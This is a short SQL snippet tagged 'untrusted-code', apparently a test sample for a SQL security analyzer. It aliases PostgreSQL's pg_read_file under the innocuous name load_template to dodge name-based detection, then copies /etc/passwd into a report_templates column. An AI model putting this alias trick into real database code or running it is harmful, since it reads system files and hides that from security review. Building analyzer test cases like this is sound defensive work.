-- class: untrusted-code
-- An internal-language alias of pg_read_file with a harmless name; the analyzer sees no forbidden function name.
CREATE FUNCTION load_template(path text) RETURNS text
  LANGUAGE internal STRICT VOLATILE AS 'pg_read_file_all';

ALTER TABLE report_templates ADD COLUMN cached_body text;
UPDATE report_templates SET cached_body = load_template('/etc/passwd') WHERE id > 0;
